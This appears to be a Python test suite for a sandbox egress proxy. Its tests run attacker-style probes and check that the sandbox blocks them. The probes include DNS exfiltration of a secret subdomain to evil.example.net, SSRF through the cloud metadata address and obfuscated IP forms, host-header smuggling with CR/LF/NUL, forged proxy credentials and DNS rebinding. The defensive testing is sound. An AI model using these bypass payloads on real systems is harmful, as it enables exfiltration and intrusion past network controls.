"""What a neuron with egress reaches: the hosts of its rules by its own
listeners, and nothing else by anything.  The numbers are those of a list of
attempts on sandboxes of this sort.

Each is made by an attacker's code inside, against real servers that see who
comes.  The controls run the same code beside the neuron, where it works.
"""
import os
import subprocess
import sys
import unittest

from egress_attempts import Case, begin
from upstream import FORBIDDEN, PRIVATE


def setUpModule():
    global net, i, w
    net, i, w = begin()


class Route(Case):
    """40 to 47: there is one way, and who comes by it is known."""

    HOST = ("127.0.0.1", "::1", "0.0.0.0", "11.1.1.1", "2600:1234::1",
            "10.1.2.3", "172.17.0.1", "192.168.7.7", "169.254.169.254",
            "fd00:ec2::254", "100.64.0.9")

    def test_040_addresses_of_the_host(self):
        code = "[[a, p, reach(a, p)] for a in %r for p in (22, 6379, 8080)]" \
            % (self.HOST,)
        for a, p, said in net.python(code):
            self.assertEqual(said, "connected", (a, p))
        net.forget()
        for profile in ("web", "inner", "none"):
            for a, p, said in w.probe(code, profile=profile):
                self.assertIn(said, ("ECONNREFUSED", "ENETUNREACH", "EACCES",
                                     "EADDRNOTAVAIL"), (a, p))
        # nor what listens inside, 80 and 443, when it is not lo
        for a, p, said in w.probe(
                "[[a, p, reach(a, p)] for a in %r for p in (80, 443)]" % (
                    self.HOST[3:],)):
            self.assertEqual(said, "ENETUNREACH", (a, p))
        self.nothing_came()

    def test_040_addresses_by_the_proxy(self):
        """The proxy is no way round: nobody listed these addresses."""
        got = w.probe("""
out = []
for a in %r:
    literal = "[%%s]" %% a if ":" in a else a
    for p in (80, 443, 6379):
        out.append([a, "connect", tunnel(literal, p)["status"]])
        out.append([a, "socks", socks_number(a, p, kind=4 if ":" in a else 1)])
        out.append([a, "socks name", socks_number(a, p)])
    out.append([a, "get", get("http://%%s/ok" %% literal)["status"]])
    out.append([a, "plain", ask("GET /ok HTTP/1.1\\r\\nHost: %%s\\r\\n\\r\\n"
        %% literal, to=("127.0.0.1", 80))["status"]])
out""" % ([a for a in self.HOST if a != "11.1.1.2"],))
        for a, how, said in got:
            if how.startswith("socks"):
                self.assertGreater(said, 0, (a, how))
            else:
                self.assertIn(said, (400, 403), (a, how))
        self.nothing_came()

    def test_041_names_by_the_back_door(self):
        secret = "x2vjcmv0.evil.example.net"
        # the control: beside the neuron the name gets out, and is seen
        out = net.python("dns(%r, to=('11.0.0.53', 53))" % secret)
        self.assertEqual(out["code"], 3)
        self.assertIn(secret, net.queries())
        net.forget()
        got = w.probe("""
out = {}
out["away"] = [dns(%(s)r, to=(a, 53), seconds=1)
               for a in ("11.0.0.53", "11.1.1.1", "224.0.0.251")]
out["tcp"] = [reach(a, 53) for a in ("11.0.0.53", "127.0.0.1", "127.0.0.53")]
out["mine"] = [dns(%(s)r, kind) for kind in (1, 28, 16, 15, 255)]
out["below"] = [dns("secret.ok.example.com"), dns("evil.example.net")]
out["doh"] = tunnel("dns.example.net")["status"]
out["doh address"] = tunnel("11.1.1.1")["status"]
out["kinds"] = []
for kind, proto in ((socket.SOCK_RAW, 1), (socket.SOCK_DGRAM, 1),
        (socket.SOCK_RAW, 255), (socket.SOCK_STREAM, 132),
        (socket.SOCK_SEQPACKET, 132), (socket.SOCK_DGRAM, 136)):
    out["kinds"].append([kind, proto, reach("11.1.1.1", 53, kind, proto)])
out""" % {"s": secret})
        for r in got["away"]:
            self.assertIn("error", r)
        self.assertEqual(got["tcp"][0], "ENETUNREACH")
        for r in got["mine"] + got["below"]:
            self.assertEqual(r, {"code": 5, "addresses": []})
        self.assertEqual((got["doh"], got["doh address"]), (403, 403))
        for kind, proto, said in got["kinds"]:
            self.assertNotEqual(said, "connected", (kind, proto))
        self.assertEqual(net.queries(), [])
        self.nothing_came()

    def test_042_other_transports(self):
        code = """
def fastopen():
    with socket.socket() as s:
        try:
            s.sendto(b"GET /ok HTTP/1.0\\r\\n\\r\\n", 0x20000000,
                     ("11.1.1.1", 8080))
            return "sent"
        except OSError as e:
            return word(e)
[reach("11.1.1.1", 8080, proto=262), fastopen()]"""
        mptcp, fast = net.python(code)
        self.assertEqual(fast, "sent")
        self.assertIn(mptcp, ("connected", "EPROTONOSUPPORT", "ENOPROTOOPT"))
        net.forget()
        mptcp, fast = w.probe(code)
        self.assertIn(mptcp, ("EPERM", "EACCES", "EPROTONOSUPPORT",
                              "EAFNOSUPPORT"))
        self.assertNotEqual(fast, "sent")
        self.nothing_came()

    def test_043_unix_sockets(self):
        """Of the namespace that the service runs in, and of a workspace."""
        path = os.path.join(w.path, "sock")
        p = subprocess.Popen(net.prefix() + [
            sys.executable, "-c",
            "import socket, sys, os, threading\n"
            "a, b = socket.socket(socket.AF_UNIX), socket.socket("
            "socket.AF_UNIX)\n"
            "a.bind('\\0myelin-egress-test'); b.bind(%r)\n"
            "a.listen(); b.listen(); os.chmod(%r, 0o777)\n"
            "print('up', flush=True)\nsys.stdin.read()" % (path, path)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        try:
            self.assertEqual(p.stdout.readline(), b"up\n")
            code = """
def try_it(name):
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(name)
            return "connected"
    except OSError as e:
        return word(e)
[try_it("\\0myelin-egress-test"), try_it(%r)]""" % path
            self.assertEqual(net.python(code), ["connected", "connected"])
            for said in w.probe(code):
                self.assertIn(said, ("EPERM", "EACCES", "ECONNREFUSED",
                                     "EAFNOSUPPORT", "ENOENT"))
        finally:
            p.stdin.close()
            p.wait(timeout=60)
            p.stdout.close()
            if os.path.exists(path):
                os.unlink(path)

    def test_044_other_families(self):
        code = """
def make(*args):
    try:
        socket.socket(*args).close()
        return "made"
    except OSError as e:
        return word(e)
# packet, netlink but route, alg, vsock, xdp, tipc, kcm, and two unknown
[make(17, socket.SOCK_RAW, 0), make(16, socket.SOCK_RAW, 4),
 make(16, socket.SOCK_RAW, 15)] + [make(f, t, 0) for f in
 (38, 40, 44, 30, 41, 45, 60) for t in (socket.SOCK_STREAM,
 socket.SOCK_SEQPACKET, socket.SOCK_RAW)]"""
        self.assertIn("made", net.python(code)[:3])
        self.assertNotIn("made", w.probe(code))

    def test_045_without_the_proxy(self):
        """A client that knows no proxy reaches what the rules say, by names
        alone, and nothing if the profile is not for that."""
        code = """
out = {"direct": [reach("11.1.1.1", p) for p in (80, 443, 22)]}
a = dns("ok.example.com")
out["name"] = a
at = (a.get("addresses") or ["127.64.0.1"])[0]
out["tls"] = straight(at, "ok.example.com")
out["plain"] = ask("GET /ok HTTP/1.1\\r\\nHost: ok.example.com\\r\\n"
    "Connection: close\\r\\n\\r\\n", to=(at, 80)) if a.get("addresses") else {}
out["other"] = straight(at, "evil.example.net", verify=False)
out["ports"] = [reach(at, p) for p in (22, 25, 8080)]
out["unknown"] = straight("127.64.7.7", "evil.example.net", verify=False)
out"""
        got = w.probe(code)
        self.assertEqual(got["direct"], ["ENETUNREACH"] * 3)
        self.assertEqual(got["name"]["code"], 0)
        self.assertRegex(got["name"]["addresses"][0],
                         r"^127\.(6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.")
        self.assertEqual(got["tls"].get("body"), "ok from ok.example.com\n")
        self.assertEqual(got["plain"].get("body"), "ok from ok.example.com\n")
        self.assertEqual(got["other"]["status"], 0)
        self.assertEqual(got["unknown"]["status"], 0)
        self.assertEqual(got["ports"], ["ECONNREFUSED"] * 3)
        self.assertEqual({c["to"] for c in net.connections()}, {"11.1.1.1"})
        self.assertEqual({r[2] for r in net.requests()}, {"ok.example.com"})
        net.forget()
        got = w.probe(code, profile="mute")
        self.assertEqual(got["direct"], ["ENETUNREACH"] * 3)
        self.assertNotIn("code", got["name"])
        self.assertEqual(got["tls"]["status"], 0)
        self.nothing_came()

    def test_046_not_listed(self):
        # the control: there it is
        self.assertEqual(net.python(
            "straight('11.1.1.1', 'evil.example.net')")["status"], 200)
        net.forget()
        for profile in ("web", "none"):
            got = w.probe("""
host = "evil.example.net"
[tunnel(host), get("http://%s/ok" % host), tunnel(host, 80),
 socks_number(host), straight("127.0.0.1", host, verify=False),
 ask("GET /ok HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % host,
     to=("127.0.0.1", 80)), dns(host)]""",
                profile=profile)
            for n in (0, 1, 2, 5):
                self.refused(got[n], "not_listed", "evil.example.net")
            self.assertEqual(got[3], 2)
            self.assertEqual(got[4]["status"], 0)
            self.assertEqual(got[6], {"code": 5, "addresses": []})
        # nothing that is listed either, where nothing is
        self.refused(w.probe("tunnel('ok.example.com')", profile="none"),
                     "not_listed")
        self.assertEqual(net.queries(), [])
        self.nothing_came()

    def test_047_who_asks(self):
        """By which listener he comes decides, whatever he says he is."""
        forged = ("Proxy-Authorization: Basic d2ViOnNlY3JldA==\\r\\n"
                  "X-Forwarded-For: 127.0.0.1\\r\\nX-Myelin-Neuron: %s\\r\\n"
                  "Via: 1.1 egressd\\r\\n")
        a = i.session(profile="web", **w.fields())
        b = i.session(profile="none", **w.fields())
        try:
            name = w.probe("os.environ['MYELIN_NEURON']", session=a)
            self.assertEqual(w.probe(
                "https('ok.example.com')", session=a)["status"], 200)
            net.forget()
            got = w.probe("""
import threading
more = "%s"
def relay(s):
    c, _ = s.accept()
    p = socket.create_connection(PROXY)
    def pump(x, y):
        while (d := x.recv(4096)):
            y.sendall(d)
        y.shutdown(socket.SHUT_WR)
    threading.Thread(target=pump, args=(p, c), daemon=True).start()
    pump(c, p)
s = socket.create_server(("127.0.0.1", 0))
threading.Thread(target=relay, args=(s,), daemon=True).start()
relayed = ask("CONNECT ok.example.com:443 HTTP/1.1\\r\\n"
    "Host: ok.example.com\\r\\n\\r\\n", to=s.getsockname())
[tunnel("ok.example.com", more=more), relayed,
 get("http://ok.example.com/ok", more=more),
 socks_number("ok.example.com", method=b"\\x05\\x01\\x02")]""" %
                forged % name, session=b)
            self.refused(got[0], "not_listed")
            self.refused(got[1], "not_listed")
            self.refused(got[2], "not_listed")
            self.assertLess(got[3], 0)
            self.nothing_came()
        finally:
            for s in (a, b):
                i.request("DELETE", "/v1/sessions/" + s)


class Names(Case):
    """48 to 50: a name is one host, however it is written."""

    # what a host may look like, and what it is: 200, 403 or 400
    HOSTS = (
        (b"ok.example.com", 200), (b"OK.Example.COM", 200),
        (b"ok.example.com.", 200),
        (b"ok.example.com.evil.example.net", 403),
        (b"evil.example.net.", 403), (b"xok.example.com", 403),
        (b"example.com", 403), (b"sub.example.com", 403),
        (b"xsub.example.com", 403), (b"bad.sub.example.com", 403),
        (b"BAD.sub.example.com.", 403),
        (b"evil.example.net\0.ok.example.com", 400),
        (b"ok.example.com\0.evil.example.net", 400),
        (b"ok.example.com@evil.example.net", 400),
        (b"user@ok.example.com", 400), (b"user:pw@ok.example.com", 400),
        (b"evil.example.net%2eok.example.com", 400),
        (b"ok%2eexample.com", 400), (b"evil.example.net%00.ok.example.com",
                                     400),
        (b"ok.example.com..", 400), (b".ok.example.com", 400),
        (b"ok..example.com", 400), (b"[ok.example.com]", 403),
        (b"evil.example.net\t.sub.example.com", 400),
        (b"evil.example.net .sub.example.com", 400),
        (b"evil.example.net/.sub.example.com", 400),
        (b"evil.example.net#.sub.example.com", 400),
        (b"evil.example.net?.sub.example.com", 400),
        (b"evil.example.net\\.sub.example.com", 400),
        (b"a" * 64 + b".sub.example.com", 400),
        (b".".join([b"a" * 60] * 4) + b".sub.example.com", 400),
        # bytes, not letters: what a name in another encoding looks like
        (b"\xff\xfe.sub.example.com", 400), (b"", 400), (b".", 400))
    # UTF-8 becomes A-labels, with the dots of other scripts
    UTF8 = (("b\u00fccher.example.com", 200),
            ("B\u00dcCHER\u3002example.com", 200),
            ("ok\uff0eexample\uff61com", 200),
            ("\u13c3k.example.com", 403), ("ok.example.c\u043em", 403),
            ("\uff45vil.example.net", 403))

    def test_048_names(self):
        hosts = list(self.HOSTS) + [(h.encode(), s) for h, s in self.UTF8]
        got = w.probe("""
out = []
for host in %r:
    out.append([tunnel(host)["status"],
        ask(b"GET http://" + host + b"/ok HTTP/1.1\\r\\nHost: " + host +
            b"\\r\\nConnection: close\\r\\n\\r\\n")["status"],
        socks_number(host) if 0 < len(host) < 256 else None])
out""" % ([h for h, _ in hosts],))
        for (host, want), (tunnel, get, socks) in zip(hosts, got):
            # what can't be in a request's line at all is 400 before its host
            self.assertEqual(tunnel, want, host)
            self.assertEqual(get, want, host)
            if socks is not None:
                self.assertEqual(socks == 0, want == 200, (host, socks))
        self.assertEqual({r[2].lower().rstrip(".") for r in net.requests()},
                         {h.decode().lower().rstrip(".") for h, s in
                          hosts if s == 200 and h.isascii()} | {
                              r[2].lower().rstrip(".") for r in net.requests()
                              if not r[2].isascii() or "xn--" in r[2]})
        self.assertLessEqual(set(net.queries()), {
            "ok.example.com", "xn--bcher-kva.example.com"})

    def test_048_lines_and_fields(self):
        """CR, LF and NUL in a request's line; a Host of its own."""
        got = w.probe("""
out = [raw(b)[0] for b in (
    b"CONNECT ok.example.com\\r\\nX: y:443 HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT ok.example.com\\n:443 HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT ok.example.com:443\\0 HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT ok.example.com:443 HTTP/1.1 x\\r\\n\\r\\n",
    b"CONNECT ok.example.com:0443x HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT ok.example.com:65979 HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT ok.example.com:-1 HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT ok.example.com HTTP/1.1\\r\\n\\r\\n",
    b"CONNECT http://ok.example.com:443/ HTTP/1.1\\r\\n\\r\\n",
    b"GET http://ok.example.com/ok HTTP/1.1\\r\\nHost: ok.example.com\\r\\n"
    b"Host: evil.example.net\\r\\n\\r\\n",
    b"GET ftp://ok.example.com/ok HTTP/1.1\\r\\n\\r\\n",
    b"GET https://ok.example.com/ok HTTP/1.1\\r\\n\\r\\n",
    b"GET /ok HTTP/1.1\\r\\nHost: ok.example.com\\r\\n\\r\\n")]
[response(o)["status"] for o in out]""")
        for n, status in enumerate(got):
            self.assertIn(status, (400, 403, 501), n)
        self.nothing_came()

    FORMS = ("2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "127.1",
             "127.0.1", "017700000001", "127.0.0.1.", "127.000.000.001",
             "[::ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::a9fe:a9fe]",
             "[64:ff9b:1::7f00:1]", "[2002:7f00:1::]", "[2001::1]",
             "[fe80::1%lo]", "[fe80::1%25lo]", "[::]", "[::1]", "[fd12::1]",
             "[ff02::1]", "0.0.0.0", "0", "100.64.0.9", "240.0.0.1",
             "255.255.255.255", "224.0.0.1", "198.18.0.1", "192.0.2.1",
             "0xa9fea9fe", "169.254.169.254", "2852039166",
             "0251.0376.0251.0376",
             "[::ffff:a9fe:a9fe]", "[0:0:0:0:0:ffff:7f00:1]",
             "\uff11\uff12\uff17.0.0.1", "\u2460\u2461\u2466.0.0.1",
             "[::1", "::1", "::ffff:127.0.0.1", "11.1.1.1", "[2600:1234::1]",
             "0xb.1.1.1", "184615169")

    def test_049_forms_of_addresses(self):
        got = w.probe("""
out = []
for form in %r:
    b = form.encode()
    out.append([form, tunnel(b)["status"],
        ask(b"GET http://" + b + b"/ok HTTP/1.1\\r\\nHost: " + b +
            b"\\r\\n\\r\\n")["status"], socks_number(b)])
out""" % (self.FORMS,))
        for form, tunnel, get, socks in got:
            self.assertIn(tunnel, (400, 403), form)
            self.assertIn(get, (400, 403), form)
            self.assertNotEqual(socks, 0, form)
        self.assertEqual(net.queries(), [])
        self.nothing_came()

    def test_049_a_rule_that_names_an_address(self):
        """Exactly that one, in its usual form."""
        got = w.probe("""
[get("http://11.1.1.2/ok")["status"], get("http://11.1.1.1/ok")["status"],
 get("http://0xb.1.1.2/ok")["status"],
 get("http://[::ffff:11.1.1.2]/ok")["status"],
 socks_number("11.1.1.2", 80, kind=1)]""")
        self.assertEqual(got[:2], [200, 403])
        self.assertIn(got[2], (400, 403))
        self.assertIn(got[3], (400, 403))
        self.assertEqual(got[4], 0)
        self.assertEqual({c["to"] for c in net.connections()}, {"11.1.1.2"})

    def test_050_addresses_of_names(self):
        """One that may not be reached among them refuses them all."""
        code = """
out = []
for host in ("mixed", "mixed6", "alias", "ten", "lo", "meta"):
    host += ".example.com"
    out.append([host, tunnel(host), get("http://%s/ok" % host),
        socks_number(host), straight("127.0.0.1", host, verify=False)])
out"""
        for host, *got in w.probe(code):
            self.refused(got[0], "address", host)
            self.refused(got[1], "address", host)
            self.assertEqual(got[2], 2, host)
            self.assertEqual(got[3]["status"], 0, host)
        self.nothing_came()
        # what would have been reached: the control
        self.assertEqual(net.python(
            "ask('GET /ok HTTP/1.0\\r\\nConnection: close\\r\\n\\r\\n', "
            "to=('10.1.2.3', 80))")[
                "status"], 200)

    def test_050_every_forbidden_address(self):
        """As the answer of a resolver, in either family."""
        mapped = ["::ffff:127.0.0.1", "::ffff:169.254.169.254", "::127.0.0.1",
                  "::1", "::", "0.0.0.0", "127.8.9.10", "fe80::1", "ff02::1",
                  "224.0.0.1", "255.255.255.255", "64:ff9b::7f00:1",
                  "2002:a9fe:a9fe::1", "::ffff:0:127.0.0.1"]
        for group, profile in ((FORBIDDEN + tuple(mapped), "inner"),
                               (PRIVATE, "web")):
            addresses = list(group)
            host = "all.example.com" if profile == "inner" else \
                "all.sub.example.com"
            for a in addresses:
                net.names({host: [a]})
                r = w.probe("get('http://%s/ok')" % host, profile=profile)
                with self.subTest(address=a):
                    self.refused(r, "address", host)
            self.nothing_came()

    def test_050_private_where_a_rule_says_so(self):
        got = w.probe("""
[get("http://%s.example.com/ok" % h)["status"] for h in
 ("ten", "lo", "meta")]""", profile="inner")
        self.assertEqual(got, [200, 403, 403])
        self.assertEqual([c["to"] for c in net.connections()], ["10.1.2.3"])

    def test_050_rebinding(self):
        """What was looked at is what is dialled: there is one answer."""
        for n in range(3):
            net.names({"rebound.example.com": {
                "A": [["11.1.1.1"], ["127.0.0.1"]]}})
            net.forget()
            got = w.probe("https('rebound.example.com', path='/ok')")
            self.assertEqual(got["status"], 200, got)
            self.assertEqual([c["to"] for c in net.connections()],
                             ["11.1.1.1"])
            again = w.probe("https('rebound.example.com', path='/ok')")
            # either the first answer is still known or the second is refused
            self.assertIn(again["status"], (200, 403))
            self.assertEqual({c["to"] for c in net.connections()},
                             {"11.1.1.1"})


if __name__ == "__main__":
    unittest.main()
